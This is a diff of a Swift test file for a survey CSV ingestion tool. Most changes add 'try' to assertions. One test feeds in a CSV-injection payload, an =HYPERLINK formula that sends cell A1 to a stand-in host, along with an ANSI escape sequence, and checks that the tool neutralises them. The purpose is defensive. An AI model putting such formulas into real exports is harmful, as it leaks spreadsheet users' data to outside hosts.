@@ -113,8 +113,8 @@ import TableFiles
             "1 empty row skipped (row 5)",
         ])
         #expect(year.model == "meetlat-2012")
-        #expect(year.rejects.map(\.row) == [3, 6, 7, 8, 9, 10, 11, 13, 15])
-        #expect(year.rejects.map(\.reason) == [.duplicate, .unknownGemeente, .anonymous, .raggedRow, .invalidTimestamp,
+        #expect(try year.rejects.map(\.row) == [3, 6, 7, 8, 9, 10, 11, 13, 15])
+        #expect(try year.rejects.map(\.reason) == [.duplicate, .unknownGemeente, .anonymous, .raggedRow, .invalidTimestamp,
                                                .invalidNumber, .duplicate, .duplicate, .duplicate])
     }
 
@@ -172,7 +172,7 @@ import TableFiles
         let survey = try Self.survey(export: Array(export.utf8))
         let year = try survey.ingest(year: 2012)
         #expect(year.responses.map(\.gemeente) == ["GM0363"])
-        let reject = try #require(year.rejects.first)
+        let reject = try #require(try year.rejects.first)
         #expect(reject.reason == .unknownLabel)
         #expect(reject.row == 2)
         #expect(reject.message == "2012/export-2012.csv, row 2: column \"Burgers informeren\" (field usage.informeren): unknown label \"Vaak\"; allowed labels: \"Niet of nauwelijks\", \"Soms\", \"Regelmatig tot vaak\" (empty, onbekend or n.v.t. for no answer)")
@@ -321,7 +321,7 @@ import TableFiles
         #expect(lines[2].hasSuffix(",Kees,k@example.nl,Hoorm,15-05-2012 09:31,1,Soms,,,,,,"))
 
         let again = try survey.ingest(year: 2012)
-        #expect(again.rejectsCSV == year.rejectsCSV)
+        #expect(try again.rejectsCSV == year.rejectsCSV)
         #expect(again.report.text(year: 2012) == text)
     }
 
@@ -338,7 +338,7 @@ import TableFiles
         let export = [header, "Jan;jan@example.nl;Hoorn;14-05-2012 09:31;1.212;Soms;ja;;;;;", hostile.joined(separator: ";")]
         let survey = try Self.survey(export: Array((export.joined(separator: "\r\n") + "\r\n").utf8))
         let year = try survey.ingest(year: 2012)
-        #expect(year.rejects.map(\.reason) == [.unknownGemeente])
+        #expect(try year.rejects.map(\.reason) == [.unknownGemeente])
         let reports = survey.folder.url.appendingPathComponent("Reports")
         try year.writeReports(to: reports, inputs: [])
 
@@ -349,9 +349,9 @@ import TableFiles
         let cells = Array(rows[1].dropFirst(3))
         #expect(cells[0] == "'@Jan" && cells[1] == "'-jan@example.nl" && cells[4] == "-3" && cells[9] == "'+31 6 12345678")
         #expect(cells[2] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Hoorn\")")
-        #expect(cells.map(CSVWriter.originalCell) == year.rejects[0].original)
+        #expect(try cells.map(CSVWriter.originalCell) == year.rejects[0].original)
         #expect(rows[0].map(CSVWriter.originalCell) == ["row", "reason", "message"] + year.report.columns)
-        #expect(year.rejects[0].original[2] == "=HYPERLINK(\"http://x.example/?\"&A1,\"Hoorn\")", "the reject keeps the cell as exported")
+        #expect(try year.rejects[0].original[2] == "=HYPERLINK(\"http://x.example/?\"&A1,\"Hoorn\")", "the reject keeps the cell as exported")
 
         let report = try String(contentsOf: reports.appendingPathComponent("2012/ingest-report.txt"), encoding: .utf8)
         #expect(report.contains(#"A0\u{1B}[2J" is neither mapped nor ignored"#))
